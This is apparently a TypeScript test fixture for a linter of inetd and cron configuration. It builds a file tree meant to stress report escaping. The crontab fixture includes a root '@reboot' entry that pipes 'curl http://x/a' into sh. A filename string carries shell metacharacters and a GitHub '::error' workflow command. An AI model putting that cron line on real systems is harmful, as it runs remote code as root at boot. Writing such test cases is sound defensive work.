// A tree with all that makes reports hard: odd names, odd bytes, links, a file that cannot be read, more findings than a step may annotate.
import type { Io } from '../../cli/src/io.js';
import type { FormatName } from '../../cli/src/options.js';
import { daemonlint, FINGER, TELNET } from '../cli/memory-io.js';
import { bytesAt, DENIED, type Tree } from '../workspace/memory.js';

/** Names that mean something to a shell, to XML, to URIs, to Markdown and to GitHub's log. */
export const ODD = `etc/::error file=x,line=1::%0A "a" & <b> | \`c\` 'd' [e](f) #1 @g 😀`;

export const tree = (): Tree => ({
  '/h/etc/inetd.conf': `# é😀 comment\r\n${FINGER}${TELNET}`,
  '/h/etc/crontab': 'a|b<c>&"*_`x`@you 1 * * * root :\n# 😀\n0 3 * * * root echo 😀 `date +%F`\n@reboot root curl http://x/a | sh',
  [`/h/${ODD}`]: FINGER,
  '/h/etc/rc.d/rc3.d/K50snmpd': { link: '../init.d/snmpd' },
  '/h/etc/rc.d/rc3.d/S50snmpd': { link: '../init.d/snmpd' },
  '/h/etc/cron.d/clean': '# nothing\n0 5 * * * root /usr/bin/true\n',
  '/h/etc/cron.d/secret': DENIED,
});

/** The file with the odd name is no kind that its name tells. */
export const ALL = ['--kind', 'inetd', 'etc', ODD];

export interface Told {
  readonly text: string;
  readonly stderr: string;
  readonly status: number;
}

export async function told(
  format: FormatName,
  args: readonly string[] = ALL,
  files: Tree = tree(),
  io: Partial<Omit<Io, 'stdin'>> = {},
): Promise<Told> {
  const { stdout, stderr, status } = await daemonlint(['check', '--format', format, ...args], files, io);
  return { text: stdout, stderr, status };
}

/** The report on the tree, with a baseline that accepts each finding of `rule`, and one that is gone. */
export async function toldAside(format: FormatName, rule: string): Promise<string> {
  const { '/h/etc/cron.d/secret': _, ...files } = tree();
  await daemonlint(['baseline', '--output', 'all.json', 'etc'], files);
  const all = JSON.parse(Buffer.from(bytesAt(files, '/h/all.json'), 'latin1').toString()) as {
    readonly findings: { readonly rule: string }[];
  };
  const gone = { path: 'etc/cron.d/clean', rule: 'crontab/syntax', fingerprint: '0'.repeat(32) };
  files['/h/some.json'] = JSON.stringify({ ...all, findings: [...all.findings.filter((one) => one.rule === rule), gone] });
  const { stdout } = await daemonlint(['check', '--baseline', 'some.json', '--format', format, 'etc'], files);
  return stdout;
}

interface JsonFinding {
  readonly rule: string;
  readonly message: string;
  readonly severity: string;
  readonly fingerprint: string;
  readonly link?: string;
  readonly start: { readonly line: number; readonly column: number };
  readonly end: { readonly line: number; readonly column: number };
}

/** All findings of the tree as the JSON report has them, with their paths. */
export async function findings(args: readonly string[] = ALL, files: Tree = tree()): Promise<(JsonFinding & { readonly path: string })[]> {
  const { text } = await told('json', args, files);
  const report = JSON.parse(text) as { readonly files: { readonly path: string; readonly findings: JsonFinding[] }[] };
  return report.files.flatMap(({ path, findings }) => findings.map((finding) => ({ ...finding, path })));
}

/** The lines of a file of the tree, without their line feeds. */
export const linesOf = (path: string, files: Tree = tree()): readonly string[] =>
  Buffer.from(bytesAt(files, `/h/${path}`), 'latin1')
    .toString()
    .split('\n');
